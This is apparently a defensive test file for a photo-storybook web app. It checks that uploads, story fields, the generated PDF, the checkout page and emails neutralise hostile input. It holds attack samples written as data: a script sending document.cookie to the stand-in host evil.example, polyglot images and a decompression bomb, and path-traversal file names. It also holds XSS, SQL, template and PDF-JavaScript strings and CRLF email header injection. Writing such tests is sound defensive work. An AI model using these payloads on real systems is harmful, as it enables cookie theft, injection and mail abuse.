import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs'
import sharp from 'sharp'
import { expect, test } from 'vitest'
import { photos } from '../../src/server/db/schema/photos.ts'
import { stories } from '../../src/server/db/schema/stories.ts'
import { packedZeros, pngChunk } from '../blank-png.ts'
import { bookKind, checkout, outbox, untilState, writeStory } from '../buyer.ts'
import { createTestApp } from '../create-test-app.ts'
import { BRIEF, facePhoto } from '../factories.ts'

const SCRIPT = '<script>fetch("//evil.example/?"+document.cookie)</script>'

test('what hides in a photo is not in what is kept of it', async () => {
  await using t = await createTestApp()
  const ana = t.visitor()
  const jpeg = await facePhoto()
  const png = await sharp(jpeg).png().toBuffer()
  const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.from(SCRIPT), Buffer.from('PK\x05\x06')])
  const bomb = Buffer.concat([Buffer.from('Comment\0\0'), packedZeros(400 * 1024 ** 2)])
  const polyglots: [string, Buffer, string][] = [
    ['a page behind a JPEG', Buffer.concat([jpeg, Buffer.from(SCRIPT)]), 'foto.html'],
    ['an archive behind a PNG', Buffer.concat([png, zip]), '../../foto.jar'],
    ['a comment in a JPEG', insertAfter(jpeg, 2, comment(SCRIPT)), 'foto.php\u0000.jpg'],
    ['a text in a PNG', insertAfter(png, 33, pngChunk('tEXt', Buffer.from(`Comment\0${SCRIPT}`))), 'foto.svg'],
    ['XMP in a WebP', await withXmp(png), '<img src=x onerror=alert(1)>.webp'],
    // 400 MB once unpacked.
    ['a bomb in a PNG', insertAfter(png, 33, pngChunk('zTXt', bomb)), 'foto.png'],
  ]
  for (const [name, data, filename] of polyglots) {
    const answer = await ana.uploadPhoto(data, { personRelation: 'sender' }, filename)
    expect([name, answer.status]).toEqual([name, 200])
    const { photo } = (await answer.json()) as { photo: { photoUrl: string } }
    for (const size of ['full', 'face', 'thumbnail']) {
      const kept = await ana.get(`${photo.photoUrl}?size=${size}`)
      const headers = [kept.headers.get('content-type'), kept.headers.get('x-content-type-options')]
      expect([name, ...headers]).toEqual([name, 'image/jpeg', 'nosniff'])
      const bytes = Buffer.from(await kept.arrayBuffer())
      expect([name, bytes.includes('evil.example'), bytes.includes('PK\x03\x04')]).toEqual([name, false, false])
      // The end of the picture is the end of the file.
      expect(bytes.subarray(-2).toString('hex')).toBe('ffd9')
    }
  }
  const stored = (await t.ctx.db.select().from(photos)).flatMap((row) => [row.fileKey, row.thumbnailKey, row.faceKey])
  for (const key of stored) expect(key).toMatch(/^photos\/[0-9a-f-]{36}\/(photo|thumbnail|face)\.jpg$/)

  const strangers: [string, Buffer][] = [
    ['a GIF', await sharp(jpeg).gif().toBuffer()],
    ['a TIFF', await sharp(jpeg).tiff().toBuffer()],
    ['an AVIF', await sharp(jpeg).resize(100).avif({ effort: 0 }).toBuffer()],
    ['a PDF', Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj')],
    ['a page that begins like a JPEG', Buffer.concat([Buffer.from('ffd8ff', 'hex'), Buffer.from(SCRIPT)])],
    [
      'an SVG that reads a file',
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><image href="/etc/passwd"/></svg>'),
    ],
  ]
  for (const [name, data] of strangers) {
    const answer = await ana.uploadPhoto(data)
    expect([name, answer.status]).toEqual([name, 415])
  }
  expect(await t.ctx.db.$count(photos)).toBe(polyglots.length)
})

test('hostile answers stay words: in the page, the book, the mail, the file’s name and the database', async () => {
  await using t = await createTestApp({ web: true })
  const ana = t.visitor()
  const brief = {
    ...BRIEF,
    recipientName: `"><svg onload=alert(1)>\r\nBcc: x@evil.example`,
    senderName: `'); drop table stories; -- ${'../'.repeat(4)}etc/passwd`,
    favoriteThing: `#eval("1+1") #read("/etc/passwd") $x$ @label \\u{41} ${SCRIPT}`,
    specialMemory: ')/OpenAction<</S/JavaScript/JS(app.alert(1))>>(',
    admiration: '${process.env.AUTH_SECRET} {{config}} %s %00 \u202egpj.exe',
  }
  const events = await ana.stream('/api/stories/generate', { body: brief })
  const storyId = events.flatMap(({ event }) => (event.type === 'complete' ? [event.storyId] : []))[0] ?? 0
  expect(storyId).toBeGreaterThan(0)
  expect(await t.ctx.db.$count(stories)).toBe(1)

  const told = await ana.get(`/api/stories/${storyId}`)
  expect(told.headers.get('content-type')).toBe('application/json; charset=utf-8')

  const book = await ana.get(`/api/stories/${storyId}/pdf`)
  const disposition = book.headers.get('content-disposition') ?? ''
  expect(disposition).toMatch(/^inline; filename="[\w. -]+"; filename\*=UTF-8''[\w.%~!*-]+$/)
  expect(disposition).not.toMatch(/\.\.(\/|%2f|%5c)|%0d|%0a/i)
  const pdf = await getDocument({ data: new Uint8Array(await book.arrayBuffer()), useSystemFonts: false }).promise
  expect([await pdf.getJSActions(), await pdf.getOpenAction(), await pdf.getAttachments()]).toEqual([null, null, null])
  let words = ''
  for (let number = 1; number <= pdf.numPages; number++) {
    const sheet = await pdf.getPage(number)
    expect(await sheet.getAnnotations()).toEqual([])
    for (const item of (await sheet.getTextContent()).items) words += 'str' in item ? item.str : ''
  }
  for (const word of ['#eval(', '#read(', '$x$', '@label']) expect(words).toContain(word)

  const url = await checkout(ana, storyId, 'elena@correo.mx')
  const page = await (await ana.get(new URL(url).pathname)).text()
  expect(page).toContain('&lt;svg onload=alert(1)&gt;')
  // The page's one script is ours, for what must be known before the first paint.
  expect(page.replace('<script src="/before-paint.js"></script>', '')).not.toMatch(/<svg onload|<script/)

  const form = new URLSearchParams({ number: '4242424242424242', expiry: '12/40', cvc: '123', name: SCRIPT })
  const typed = { 'content-type': 'application/x-www-form-urlencoded' }
  await ana.send('POST', `${new URL(url).pathname}/pay`, String(form), typed)
  await untilState(ana, storyId, 'sent')
  expect(await bookKind(ana, storyId)).toBe('clean')
  const [mail, ...more] = await outbox(t)
  expect(more).toEqual([])
  expect([mail?.to?.map(({ address }) => address), mail?.bcc, mail?.cc]).toEqual([
    ['elena@correo.mx'],
    undefined,
    undefined,
  ])
  expect(mail?.subject).not.toMatch(/[\r\n]/)
  expect(mail?.html).not.toMatch(/<svg onload|<script|onerror=/)
  const names = mail?.attachments.map(({ filename }) => filename) ?? []
  expect(names).toHaveLength(2)
  expect(names.filter((name) => /[/\\\r\n"<>]|\.\.\//.test(name ?? ''))).toEqual([])
})

test('an address that is more than an address buys nothing', async () => {
  await using t = await createTestApp()
  const ana = t.visitor()
  const storyId = await writeStory(ana)
  for (const email of [
    'a@b.mx, c@d.mx',
    'a@b.mx\r\nBcc: c@d.mx',
    '"a b"@c.mx',
    'Ana <a@b.mx>',
    'a@[127.0.0.1]',
    `${'a'.repeat(300)}@b.mx`,
    { $ne: null },
    ['a@b.mx'],
  ]) {
    const answer = await ana.send('POST', `/api/stories/${storyId}/create-checkout-session`, { email })
    expect([email, answer.status]).toEqual([email, 400])
  }
})

function insertAfter(data: Buffer, at: number, part: Buffer): Buffer {
  return Buffer.concat([data.subarray(0, at), part, data.subarray(at)])
}

function comment(text: string): Buffer {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(text.length + 2, 2)
  return Buffer.concat([head, Buffer.from(text)])
}

function withXmp(png: Buffer): Promise<Buffer> {
  return sharp(png)
    .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${SCRIPT.replaceAll('<', '&lt;')}</x:xmpmeta>`)
    .webp()
    .toBuffer()
}
